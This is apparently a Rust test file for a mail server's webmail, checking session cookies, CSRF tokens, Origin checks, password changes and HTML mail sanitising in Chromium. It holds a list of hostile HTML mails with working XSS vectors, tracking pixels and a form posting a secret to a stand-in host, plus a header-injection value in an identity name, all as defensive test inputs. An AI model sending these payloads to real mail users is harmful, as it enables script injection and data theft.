//! The webmail's sessions (issue 15, first part): logging in from a
//! browser gives an HttpOnly, SameSite=Strict cookie and a CSRF token;
//! the JMAP endpoints take the cookie, but a request that changes
//! something must carry the token too; logging out ends the session on
//! the server. Driven with Python's urllib and curl.

use crate::harness::*;
use crate::smtp::python;
use serde_json::Value;

#[test]
fn a_browser_session_logs_in_calls_jmap_with_its_csrf_token_and_logs_out() {
    let dir = TestDir::new();
    dir.add_account("joe@example.test");
    let server = dir.start();
    let out = python(
        r##"
import json, sys, urllib.request, urllib.error
base = "http://127.0.0.1:%s" % sys.argv[1]
def post(path, body, headers={}):
    req = urllib.request.Request(base + path, data=json.dumps(body).encode(),
                                 headers=dict({"Content-Type": "application/json"}, **headers))
    try:
        r = urllib.request.urlopen(req)
        return r.status, r.headers, json.loads(r.read())
    except urllib.error.HTTPError as e:
        return e.code, e.headers, json.loads(e.read() or b"null")
def get(path, headers={}):
    try:
        r = urllib.request.urlopen(urllib.request.Request(base + path, headers=headers))
        return r.status, json.loads(r.read())
    except urllib.error.HTTPError as e:
        return e.code, None
out = {}
out["wrong"] = post("/webmail/login", {"username": "joe@example.test", "password": "nope"})[0]
status, headers, body = post("/webmail/login", {"username": "joe@example.test", "password": "secret"})
out["login"] = [status, body.get("username")]
cookie_line = headers.get("Set-Cookie", "")
out["set_cookie"] = cookie_line
cookie = cookie_line.split(";")[0]
csrf = body["csrf"]
out["session"] = get("/webmail/session", {"Cookie": cookie})
api = {"using": ["urn:ietf:params:jmap:core", "urn:ietf:params:jmap:mail"],
       "methodCalls": [["Mailbox/get", {"accountId": "a1", "properties": ["name"]}, "0"]]}
out["api_without_csrf"] = post("/jmap/api", api, {"Cookie": cookie})[0]
out["api_wrong_csrf"] = post("/jmap/api", api, {"Cookie": cookie, "X-Tern-CSRF": "x" * len(csrf)})[0]
status, _, body = post("/jmap/api", api, {"Cookie": cookie, "X-Tern-CSRF": csrf})
out["api"] = [status, len(body["methodResponses"][0][1]["list"])]
out["logout_without_csrf"] = post("/webmail/logout", {}, {"Cookie": cookie})[0]
status, headers, _ = post("/webmail/logout", {}, {"Cookie": cookie, "X-Tern-CSRF": csrf})
out["logout"] = [status, headers.get("Set-Cookie", "")]
out["after_logout"] = post("/jmap/api", api, {"Cookie": cookie, "X-Tern-CSRF": csrf})[0]
_, headers, _ = post("/webmail/login", {"username": "joe@example.test", "password": "secret", "remember": True})
out["remember"] = headers.get("Set-Cookie", "")
print(json.dumps(out))
"##,
        &[&server.listeners["http"].port().to_string()],
    );
    assert_eq!(out["wrong"], 401, "{out}");
    assert_eq!(
        out["login"],
        serde_json::json!([200, "joe@example.test"]),
        "{out}"
    );
    let set_cookie = out["set_cookie"].as_str().unwrap();
    assert!(set_cookie.starts_with("tern_session=tern_"), "{set_cookie}");
    for attribute in ["HttpOnly", "SameSite=Strict", "Path=/"] {
        assert!(set_cookie.contains(attribute), "{attribute}: {set_cookie}");
    }
    assert!(
        !set_cookie.contains("Max-Age"),
        "a browser-session cookie: {set_cookie}"
    );
    assert!(
        !set_cookie.contains("Secure"),
        "plain HTTP on loopback: {set_cookie}"
    );
    assert_eq!(out["session"][0], 200, "{out}");
    assert_eq!(out["session"][1]["username"], "joe@example.test");
    assert_eq!(out["api_without_csrf"], 403, "{out}");
    assert_eq!(out["api_wrong_csrf"], 403, "{out}");
    assert_eq!(out["api"], serde_json::json!([200, 6]), "{out}");
    assert_eq!(out["logout_without_csrf"], 403, "{out}");
    assert_eq!(out["logout"][0], 200, "{out}");
    assert!(
        out["logout"][1].as_str().unwrap().contains("Max-Age=0"),
        "{out}"
    );
    assert_eq!(
        out["after_logout"], 401,
        "the session ended on the server: {out}"
    );
    assert!(
        out["remember"]
            .as_str()
            .unwrap()
            .contains("Max-Age=2592000"),
        "{out}"
    );
    // Over HTTPS the cookie is Secure.
    let https = format!("https://127.0.0.1:{}", server.listeners["https"].port());
    let (head, _) = crate::jmap::curl(&[
        "-k",
        "-H",
        "Content-Type: application/json",
        "--data",
        r#"{"username":"joe@example.test","password":"secret"}"#,
        &format!("{https}/webmail/login"),
    ]);
    let cookie: Value = head
        .lines()
        .find(|l| l.to_ascii_lowercase().starts_with("set-cookie:"))
        .map(|l| Value::String(l.to_string()))
        .unwrap_or(Value::Null);
    assert!(
        cookie.as_str().is_some_and(|c| c.contains("; Secure")),
        "{head}"
    );
}

#[test]
fn the_reading_pane_gets_a_mail_made_safe_under_a_sandboxing_policy() {
    let dir = TestDir::new();
    dir.add_account("joe@example.test");
    let server = dir.start();
    let out = python(
        r##"
import base64, json, smtplib, sys, urllib.request
base = "http://127.0.0.1:%s" % sys.argv[1]
png = base64.b64encode(b"\x89PNG\r\n\x1a\nfake").decode()
html = ('<p onclick="alert(1)">Hello <b>Joe</b></p><script>alert(2)</script>'
        '<img src="cid:logo@remote.test"><img src="https://tracker.example/p.gif">'
        '<a href="javascript:alert(3)">bad</a><form action="https://evil.example/"><input></form>')
raw = ("From: Ann <ann@remote.test>\r\nTo: joe@example.test\r\nSubject: html\r\nMIME-Version: 1.0\r\n"
       "Content-Type: multipart/related; boundary=r\r\n\r\n--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
       + html + "\r\n--r\r\nContent-Type: image/png\r\nContent-ID: <logo@remote.test>\r\n"
       "Content-Transfer-Encoding: base64\r\n\r\n" + png + "\r\n--r--\r\n").encode()
s = smtplib.SMTP("127.0.0.1", int(sys.argv[2]))
s.sendmail("ann@remote.test", ["joe@example.test"], raw)
s.quit()
req = urllib.request.Request(base + "/webmail/login", headers={"Content-Type": "application/json"},
    data=json.dumps({"username": "joe@example.test", "password": "secret"}).encode())
r = urllib.request.urlopen(req)
cookie = r.headers["Set-Cookie"].split(";")[0]
out = {}
for name, query in [("blocked", ""), ("allowed", "?images=1")]:
    r = urllib.request.urlopen(urllib.request.Request(base + "/webmail/message/M1/html" + query,
                                                      headers={"Cookie": cookie}))
    out[name] = {"csp": r.headers["Content-Security-Policy"], "frame": r.headers["X-Frame-Options"],
                 "blocked": r.headers["X-Tern-Blocked-Images"], "type": r.headers["Content-Type"],
                 "body": r.read().decode()}
try:
    urllib.request.urlopen(base + "/webmail/message/M1/html")
    out["anonymous"] = 200
except urllib.error.HTTPError as e:
    out["anonymous"] = e.code
print(json.dumps(out))
"##,
        &[
            &server.listeners["http"].port().to_string(),
            &server.listeners["smtp"].port().to_string(),
        ],
    );
    let blocked = &out["blocked"];
    let body = blocked["body"].as_str().unwrap().to_ascii_lowercase();
    for bad in [
        "<script",
        "onclick",
        "javascript:",
        "<form",
        "<input",
        "tracker.example",
    ] {
        assert!(!body.contains(bad), "{bad}: {body}");
    }
    assert!(body.contains("hello <b>joe</b>"), "{body}");
    assert!(
        body.contains("src=\"data:image/png;base64,"),
        "the cid image inline: {body}"
    );
    let csp = blocked["csp"].as_str().unwrap();
    assert!(
        csp.contains("default-src 'none'") && csp.contains("sandbox"),
        "{csp}"
    );
    assert!(csp.contains("img-src data:;"), "{csp}");
    assert!(
        !csp.contains("script-src"),
        "no script source at all: {csp}"
    );
    assert_eq!(blocked["frame"], "SAMEORIGIN");
    assert_eq!(blocked["blocked"], "1");
    assert!(blocked["type"].as_str().unwrap().starts_with("text/html"));
    let allowed = &out["allowed"];
    assert_eq!(allowed["blocked"], "0");
    assert!(allowed["body"]
        .as_str()
        .unwrap()
        .contains("https://tracker.example/p.gif"));
    assert_eq!(out["anonymous"], 401);
}

/// Hostile mails (HTML bodies): none may run script, open a dialog or
/// fetch anything in a real browser.
const HOSTILE_MAILS: &[&str] = &[
    "<script>alert('script')</script><p>one</p>",
    "<img src=x onerror=\"alert('onerror')\"><p>two</p>",
    "<body onload=\"alert('onload')\"><p>three</p></body>",
    "<svg><animate onbegin=\"alert('svg')\" attributeName=x dur=1s></animate></svg><p>four</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"alert('math')\"></style></mglyph></table></mtext></math><p>five</p>",
    "<input autofocus onfocus=\"alert('focus')\"><p>six</p>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/refresh\"><p>seven</p>",
    "<base href=\"https://evil.example/\"><img src=\"relative.png\"><p>eight</p>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\"><style>@import url(https://evil.example/y.css);</style><p>nine</p>",
    "<div style=\"background-image:url(https://tracker.example/bg.png)\">ten</div>",
    "<style>@font-face{font-family:x;src:url(https://tracker.example/f.woff)} p{font-family:x}</style><p>eleven</p>",
    "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1><p>twelve</p>",
    "<img srcset=\"https://tracker.example/a.png 1x\"><video poster=\"https://tracker.example/v.png\"></video><p>thirteen</p>",
    "<table background=\"https://tracker.example/t.png\"><tr><td>fourteen</td></tr></table>",
    "<iframe src=\"https://evil.example/frame\"></iframe><object data=\"https://evil.example/o\"></object><embed src=\"https://evil.example/e\"><p>fifteen</p>",
    "<form action=\"https://evil.example/steal\"><input name=p value=secret><button>go</button></form><p>sixteen</p>",
    "<a href=\"javascript:alert('link')\" id=l>seventeen</a><script>document.getElementById('l').click()</script>",
    "<p style=\"width:expression(alert('css'))\">eighteen</p>",
    "<img src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'%3E%3Cscript%3Ealert(2)%3C/script%3E%3C/svg%3E\"><p>nineteen</p>",
    "<a href=\"data:text/html,%3Cscript%3Ealert('data')%3C/script%3E\" id=d>twenty</a><img src=\"cid:missing@x\">",
    "<iframe srcdoc=\"&lt;script&gt;alert('srcdoc')&lt;/script&gt;\"></iframe><p>twenty-one</p>",
];

#[test]
fn hostile_mails_run_nothing_and_fetch_nothing_in_chromium() {
    let modules = crate::jmap::node_modules();
    if !modules.join("playwright-core/package.json").is_file()
        || !std::path::Path::new("/usr/bin/chromium").exists()
    {
        assert!(
            std::env::var_os("TERN_REQUIRE_JMAPC").is_none(),
            "playwright-core or chromium missing (see scripts/test.sh)"
        );
        eprintln!("browser test skipped: no playwright-core or chromium");
        return;
    }
    let dir = TestDir::new();
    dir.add_account("joe@example.test");
    let server = dir.start();
    let corpus = serde_json::to_string(HOSTILE_MAILS).unwrap();
    let login = python(
        r##"
import json, smtplib, sys, urllib.request
base = "http://127.0.0.1:%s" % sys.argv[1]
s = smtplib.SMTP("127.0.0.1", int(sys.argv[2]))
for i, html in enumerate(json.loads(sys.argv[3])):
    raw = ("From: x@remote.test\r\nTo: joe@example.test\r\nSubject: hostile %d\r\nMIME-Version: 1.0\r\n"
           "Content-Type: text/html; charset=utf-8\r\n\r\n%s\r\n" % (i, html)).encode()
    s.sendmail("x@remote.test", ["joe@example.test"], raw)
s.quit()
req = urllib.request.Request(base + "/webmail/login", headers={"Content-Type": "application/json"},
    data=json.dumps({"username": "joe@example.test", "password": "secret"}).encode())
print(json.dumps(urllib.request.urlopen(req).headers["Set-Cookie"].split(";")[0]))
"##,
        &[
            &server.listeners["http"].port().to_string(),
            &server.listeners["smtp"].port().to_string(),
            &corpus,
        ],
    );
    let cookie = login.as_str().unwrap().to_string();
    let base = format!("http://127.0.0.1:{}", server.listeners["http"].port());
    let mut paths: Vec<String> = (1..=HOSTILE_MAILS.len())
        .map(|i| format!("/webmail/message/M{i}/html"))
        .collect();
    // The tracking pixel with images allowed: the browser does ask for it,
    // so the interception would see a request that slipped through.
    paths.push("/webmail/message/M12/html?images=1".into());
    let script = modules.join("../reading_pane.mjs");
    let output = std::process::Command::new("node")
        .arg(&script)
        .arg(&modules)
        .arg(&base)
        .arg(&cookie)
        .args(&paths)
        .output()
        .expect("node");
    assert!(
        output.status.success(),
        "playwright: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let results: Value = serde_json::from_slice(&output.stdout).unwrap();
    let results = results.as_array().unwrap();
    assert_eq!(results.len(), paths.len());
    for (i, r) in results.iter().take(HOSTILE_MAILS.len()).enumerate() {
        let mail = HOSTILE_MAILS[i];
        assert_eq!(r["status"], 200, "{mail}: {r}");
        assert_eq!(
            r["dialogs"],
            serde_json::json!([]),
            "a dialog opened: {mail}: {r}"
        );
        assert_eq!(r["errors"], serde_json::json!([]), "{mail}: {r}");
        assert_eq!(
            r["requests"],
            serde_json::json!([]),
            "something was fetched: {mail}: {r}"
        );
        assert_eq!(r["scripts"], 0, "{mail}: {r}");
    }
    let allowed = results.last().unwrap();
    assert!(
        allowed["requests"]
            .as_array()
            .unwrap()
            .iter()
            .any(|u| u.as_str().unwrap().contains("tracker.example/pixel.gif")),
        "with images allowed the pixel is asked for (and the route sees it): {allowed}"
    );
}

/// Where a browser test leaves its screenshots (kept after the run: on a
/// failure they show what the browser showed).
fn artifacts(test: &str) -> std::path::PathBuf {
    let dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR"))
        .join("webmail")
        .join(test);
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Whether the browser tests can run here; they must under `.ci/run`.
fn browser_available() -> bool {
    let ok = crate::jmap::node_modules()
        .join("playwright-core/package.json")
        .is_file()
        && std::path::Path::new("/usr/bin/chromium").exists();
    if !ok {
        assert!(
            std::env::var_os("TERN_REQUIRE_JMAPC").is_none(),
            "playwright-core or chromium missing (see scripts/test.sh)"
        );
        eprintln!("browser test skipped: no playwright-core or chromium");
    }
    ok
}

/// Runs one of the node scripts beside the tests against the server's
/// webmail, with `extra` arguments after the artefacts directory, and
/// checks its report (every step passed, nothing went wrong in the
/// pages); the webmail's base URL.
fn browser_journey(server: &Server, script: &str, name: &str, extra: &[&str]) -> String {
    let base = format!("http://127.0.0.1:{}", server.listeners["http"].port());
    let artifacts = artifacts(name);
    let modules = crate::jmap::node_modules();
    let output = std::process::Command::new("node")
        .arg(modules.join("..").join(script))
        .arg(&modules)
        .arg(&base)
        .arg(&artifacts)
        .args(extra)
        .output()
        .expect("node");
    assert!(
        output.status.success(),
        "{script}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let report: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
        panic!(
            "{script} printed no report ({e}): {}",
            String::from_utf8_lossy(&output.stdout)
        )
    });
    assert_journey(&report, &artifacts);
    base
}

/// Sends `raw` from `from` to `to`: a local user (`@example.test`,
/// password `secret`) over submission, anyone else over port 25.
fn send(server: &Server, from: &str, to: &str, raw: &str) {
    let local = from.ends_with("@example.test");
    let port = server.listeners[if local { "submission" } else { "smtp" }]
        .port()
        .to_string();
    python(
        r##"
import smtplib, sys
port, local, sender, rcpt, raw = sys.argv[1:6]
s = smtplib.SMTP("127.0.0.1", int(port))
if local == "1":
    s.login(sender, "secret")
s.sendmail(sender, [rcpt], raw.encode())
s.quit()
print("null")
"##,
        &[&port, if local { "1" } else { "0" }, from, to, raw],
    );
}

/// Bob's message with a picture (a 1×1 PNG) and a text file.
const PHOTO_ATTACHED: &str = "From: Bob <bob@example.test>\r\nTo: alice@example.test\r\n\
Subject: Photo attached\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n\
--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe picture and the readings.\r\n\
--b1\r\nContent-Type: image/png\r\nContent-Disposition: attachment; filename=\"dot.png\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n\
iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==\r\n\
--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Disposition: attachment; filename=\"data.txt\"\r\n\r\n\
temperature,21\r\n--b1--\r\n";

/// Every step passed, and no page threw, logged an error, opened a
/// dialog or asked anything of another server.
fn assert_journey(report: &Value, artifacts: &std::path::Path) {
    let failed: Vec<&Value> = report["steps"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["ok"] != true)
        .collect();
    assert!(
        failed.is_empty() && report["failed"].is_null(),
        "failed: {failed:?} ({}); screenshots in {}; debug: {}",
        report["failed"],
        artifacts.display(),
        report["debug"]
    );
    assert_eq!(report["errors"], serde_json::json!([]), "{report}");
    assert_eq!(report["requests"], serde_json::json!([]), "{report}");
}

#[test]
fn two_people_read_reply_search_file_delete_junk_and_log_out_in_chromium() {
    if !browser_available() {
        return;
    }
    // The spam filter learns, but decides nothing on arrival here.
    let dir = TestDir::with_config("[spam]\ntag_score = 100.0\njunk_score = 100.0\n");
    dir.add_account("alice@example.test");
    dir.add_account("bob@example.test");
    let server = dir.start();
    // Bob writes to Alice over submission; a stranger sends her an offer.
    send(
        &server,
        "bob@example.test",
        "alice@example.test",
        "From: Bob <bob@example.test>\r\nTo: alice@example.test\r\nSubject: Quarterly figures\r\n\
         Message-ID: <q3@example.test>\r\n\r\nHere are the numbers for the third quarter.\r\n",
    );
    send(
        &server,
        "offers@remote.test",
        "alice@example.test",
        "From: offers@remote.test\r\nTo: alice@example.test\r\nSubject: Cheap watches\r\n\r\n\
         Replica watches, casino bonus.\r\n",
    );
    let base = browser_journey(&server, "webmail_journey.mjs", "journey", &[]);
    // What the browser did is what the server keeps.
    let (_, body) = crate::jmap::curl(&[
        "-u",
        "alice@example.test:secret",
        "-H",
        "Content-Type: application/json",
        "--data",
        r#"{"using":["urn:ietf:params:jmap:core","urn:ietf:params:jmap:vacationresponse"],"methodCalls":[["VacationResponse/get",{"accountId":"a1"},"0"]]}"#,
        &format!("{base}/jmap/api"),
    ]);
    let vacation: Value = serde_json::from_str(&body).unwrap();
    let vacation = &vacation["methodResponses"][0][1]["list"][0];
    assert_eq!(vacation["isEnabled"], true, "{vacation}");
    assert_eq!(vacation["subject"], "Away until Monday", "{vacation}");
    // Moving to Junk taught her filter (the trainer works in the background).
    poll_until(
        std::time::Duration::from_secs(30),
        "alice's classifier trained on one spam",
        || {
            let stats: Value = serde_json::from_str(
                &dir.ok(&["--json", "spam", "stats", "alice@example.test"], ""),
            )
            .unwrap();
            (stats["spam_messages"] == 1)
                .then_some(())
                .ok_or(stats.to_string())
        },
    );
}

#[test]
fn imap_and_the_webmail_see_each_others_changes_live() {
    if !browser_available() {
        return;
    }
    let dir = TestDir::new();
    dir.add_account("alice@example.test");
    let server = dir.start();
    send(
        &server,
        "carol@remote.test",
        "alice@example.test",
        "From: carol@remote.test\r\nTo: alice@example.test\r\nSubject: First note\r\n\r\nhello\r\n",
    );
    let imap = server.listeners["imap"].port().to_string();
    browser_journey(&server, "webmail_live.mjs", "live", &[&imap]);
}

#[test]
fn images_attachments_signatures_drafts_forwarding_themes_and_password_in_chromium() {
    if !browser_available() {
        return;
    }
    let dir = TestDir::new();
    dir.add_account("alice@example.test");
    dir.add_account("bob@example.test");
    let server = dir.start();
    send(
        &server,
        "bob@example.test",
        "alice@example.test",
        PHOTO_ATTACHED,
    );
    send(
        &server,
        "news@remote.test",
        "alice@example.test",
        "From: news@remote.test\r\nTo: alice@example.test\r\nSubject: Newsletter\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/html; charset=utf-8\r\n\r\n\
         <p>This week</p><img src=\"http://images.remote.test/pixel.png\">\r\n",
    );
    browser_journey(&server, "webmail_more.mjs", "more", &[]);
    // Bob has the forward, the original inside it as message/rfc822; and
    // Alice's new password is the one IMAP takes.
    let out = python(
        r##"
import imaplib, json, sys
port = int(sys.argv[1])
m = imaplib.IMAP4("127.0.0.1", port)
m.login("bob@example.test", "secret")
m.select("INBOX")
typ, data = m.search(None, "SUBJECT", "\"Fwd: Photo attached\"")
raw = m.fetch(data[0].split()[-1], "(BODY.PEEK[])")[1][0][1].decode() if data[0] else ""
def login(password):
    try:
        imaplib.IMAP4("127.0.0.1", port).login("alice@example.test", password)
        return True
    except imaplib.IMAP4.error:
        return False
print(json.dumps({"forward": raw, "new": login("Tern-New-Password-7"), "old": login("secret")}))
"##,
        &[&server.listeners["imap"].port().to_string()],
    );
    let forward = out["forward"].as_str().unwrap();
    assert!(
        forward.contains("Content-Type: message/rfc822")
            && forward.contains("Subject: Photo attached"),
        "{forward}"
    );
    assert_eq!(out["new"], true, "{out}");
    assert_eq!(out["old"], false, "{out}");
}

#[test]
fn identities_preferences_and_password_changes_refuse_what_they_must() {
    let dir = TestDir::new();
    dir.add_account("joe@example.test");
    let server = dir.start();
    let out = python(
        r##"
import json, sys, urllib.request, urllib.error
base = "http://127.0.0.1:%s" % sys.argv[1]
def call(path, body, headers={}, method="POST", raw=None):
    data = raw if raw is not None else json.dumps(body).encode()
    req = urllib.request.Request(base + path, data=data, method=method,
                                 headers=dict({"Content-Type": "application/json"}, **headers))
    try:
        r = urllib.request.urlopen(req)
        return r.status, json.loads(r.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read() or b"null")
req = urllib.request.Request(base + "/webmail/login", headers={"Content-Type": "application/json"},
    data=json.dumps({"username": "joe@example.test", "password": "secret"}).encode())
r = urllib.request.urlopen(req)
cookie = r.headers["Set-Cookie"].split(";")[0]
csrf = json.loads(r.read())["csrf"]
h = {"Cookie": cookie, "X-Tern-CSRF": csrf}
def jmap(calls):
    using = ["urn:ietf:params:jmap:core", "urn:ietf:params:jmap:mail", "urn:ietf:params:jmap:submission"]
    return call("/jmap/api", {"using": using, "methodCalls": calls}, h)[1]["methodResponses"]
out = {}
r = jmap([["Identity/set", {"accountId": "a1",
    "create": {"n": {"email": "other@example.test"}},
    "update": {"i1": {"name": "Joe Bloggs", "textSignature": "Joe"}, "i99": {"name": "x"}},
    "destroy": ["i1"]}, "0"],
    ["Identity/set", {"accountId": "a1", "update": {"i1": {"name": "Joe\r\nBcc: x@y", "email": "x@y"}}}, "1"],
    ["Identity/get", {"accountId": "a1"}, "2"]])
out["set"] = r[0][1]
out["bad"] = r[1][1]
out["get"] = r[2][1]["list"][0]
out["prefs_empty"] = call("/webmail/prefs", None, h, "GET", raw=b"")
out["prefs_put"] = call("/webmail/prefs", {"theme": "dark"}, h, "PUT")
out["prefs_not_object"] = call("/webmail/prefs", [1, 2], h, "PUT")[0]
out["prefs_too_big"] = call("/webmail/prefs", {"x": "a" * 70000}, h, "PUT")[0]
out["prefs_no_csrf"] = call("/webmail/prefs", {"theme": "light"}, {"Cookie": cookie}, "PUT")[0]
out["prefs_after"] = call("/webmail/prefs", None, h, "GET", raw=b"")
out["pw_weak"] = call("/webmail/password", {"current": "secret", "new": "password1"}, h)
out["pw_wrong"] = call("/webmail/password", {"current": "nope", "new": "Tern-Another-Long-1"}, h)[0]
# A preview opens in the browser only for types that cannot run script.
req = urllib.request.Request(base + "/jmap/upload/a1/", data=b"%PDF-1.4 not really", method="POST",
    headers=dict({"Content-Type": "application/pdf"}, **h))
blob = json.loads(urllib.request.urlopen(req).read())["blobId"]
def disposition(accept):
    req = urllib.request.Request(base + "/jmap/download/a1/%s/x?accept=%s&inline=1" % (blob, accept), headers={"Cookie": cookie})
    return urllib.request.urlopen(req).headers["Content-Disposition"].split(";")[0]
out["inline"] = [disposition("application/pdf"), disposition("text/html"), disposition("image/svg%2Bxml")]
def download(accept, headers):
    req = urllib.request.Request(base + "/jmap/download/a1/%s/x?accept=%s" % (blob, accept), headers=headers)
    r = urllib.request.urlopen(req)
    return [r.headers["Content-Type"], r.headers["Cache-Control"]]
out["script_as_bytes"] = download("text/javascript", {"Cookie": cookie})
out["basic_download"] = download("application/pdf", {"Authorization": "Basic am9lQGV4YW1wbGUudGVzdDpzZWNyZXQ="})
# Another site cannot use the cookie, log in, or open the WebSocket.
out["foreign_origin"] = call("/jmap/api", {"using": [], "methodCalls": []}, dict(h, Origin="https://evil.example"))[0]
out["own_origin"] = call("/jmap/api", {"using": ["urn:ietf:params:jmap:core"], "methodCalls": []}, dict(h, Origin=base))[0]
out["login_form"] = call("/webmail/login", None, {"Content-Type": "text/plain", "Origin": "https://evil.example"},
    raw=json.dumps({"username": "joe@example.test", "password": "secret"}).encode())[0]
out["login_curl_form"] = call("/webmail/login", None, {"Content-Type": "application/x-www-form-urlencoded"},
    raw=json.dumps({"username": "joe@example.test", "password": "secret"}).encode())[0]
out["login_foreign"] = call("/webmail/login", {"username": "joe@example.test", "password": "secret"}, {"Origin": "https://evil.example"})[0]
import socket
def upgrade(origin):
    s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
    s.sendall(("GET /jmap/ws HTTP/1.1\r\nHost: 127.0.0.1:%s\r\nCookie: %s\r\nConnection: Upgrade\r\n"
        "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "Sec-WebSocket-Protocol: jmap\r\n%s\r\n" % (sys.argv[1], cookie, origin)).encode())
    status = int(s.recv(200).split(b" ")[1])
    s.close()
    return status
out["ws_without_origin"] = upgrade("")
out["ws_own_origin"] = upgrade("Origin: %s\r\n" % base)
# A password change ends every other session.
other = urllib.request.urlopen(urllib.request.Request(base + "/webmail/login", headers={"Content-Type": "application/json"},
    data=json.dumps({"username": "joe@example.test", "password": "secret"}).encode()))
other_cookie = other.headers["Set-Cookie"].split(";")[0]
out["pw_change"] = call("/webmail/password", {"current": "secret", "new": "Tern-Another-Long-1"}, h)
out["other_after"] = call("/webmail/prefs", None, {"Cookie": other_cookie}, "GET", raw=b"")[0]
out["mine_after"] = call("/webmail/prefs", None, h, "GET", raw=b"")[0]
out["session_challenge"] = None
try:
    urllib.request.urlopen(base + "/webmail/session")
except urllib.error.HTTPError as e:
    out["session_challenge"] = [e.code, e.headers.get("WWW-Authenticate")]
print(json.dumps(out))
"##,
        &[&server.listeners["http"].port().to_string()],
    );
    let set = &out["set"];
    assert_eq!(set["notCreated"]["n"]["type"], "forbidden", "{set}");
    assert_eq!(set["notDestroyed"]["i1"]["type"], "forbidden", "{set}");
    assert_eq!(set["updated"], serde_json::json!({"i1": null}), "{set}");
    assert_eq!(set["notUpdated"]["i99"]["type"], "notFound", "{set}");
    assert_ne!(set["oldState"], set["newState"], "{set}");
    let bad = &out["bad"]["notUpdated"]["i1"];
    assert_eq!(bad["type"], "invalidProperties", "{out}");
    assert_eq!(
        bad["properties"],
        serde_json::json!(["email", "name"]),
        "{out}"
    );
    assert_eq!(out["get"]["name"], "Joe Bloggs", "{out}");
    assert_eq!(out["get"]["textSignature"], "Joe", "{out}");
    assert_eq!(out["prefs_empty"], serde_json::json!([200, {}]), "{out}");
    assert_eq!(out["prefs_put"][0], 200, "{out}");
    assert_eq!(out["prefs_not_object"], 400, "{out}");
    assert_eq!(out["prefs_too_big"], 413, "{out}");
    assert_eq!(out["prefs_no_csrf"], 403, "{out}");
    assert_eq!(
        out["prefs_after"],
        serde_json::json!([200, {"theme": "dark"}]),
        "{out}"
    );
    assert_eq!(out["pw_weak"][0], 422, "{out}");
    assert!(
        out["pw_weak"][1]["detail"]
            .as_str()
            .unwrap()
            .contains("too easy to guess"),
        "{out}"
    );
    assert_eq!(out["pw_wrong"], 403, "{out}");
    assert_eq!(
        out["script_as_bytes"],
        serde_json::json!(["application/octet-stream", "private, no-store"]),
        "{out}"
    );
    assert_eq!(
        out["basic_download"][1], "private, immutable, max-age=31536000",
        "{out}"
    );
    assert_eq!(out["foreign_origin"], 403, "{out}");
    assert_eq!(out["own_origin"], 200, "{out}");
    assert_eq!(out["login_form"], 403, "{out}");
    assert_eq!(
        out["login_curl_form"], 200,
        "a tool sending no Origin: {out}"
    );
    assert_eq!(out["login_foreign"], 403, "{out}");
    assert_eq!(out["ws_without_origin"], 403, "{out}");
    assert_eq!(out["ws_own_origin"], 101, "{out}");
    assert_eq!(out["pw_change"][0], 200, "{out}");
    // The other browser's session and the tool's.
    assert_eq!(out["pw_change"][1]["sessionsEnded"], 2, "{out}");
    assert_eq!(out["other_after"], 401, "{out}");
    assert_eq!(out["mine_after"], 200, "{out}");
    assert_eq!(
        out["inline"],
        serde_json::json!(["inline", "attachment", "attachment"]),
        "{out}"
    );
    // The webmail's own requests get no Basic challenge (a browser would
    // put up its password prompt over the login page).
    assert_eq!(
        out["session_challenge"],
        serde_json::json!([401, null]),
        "{out}"
    );
}
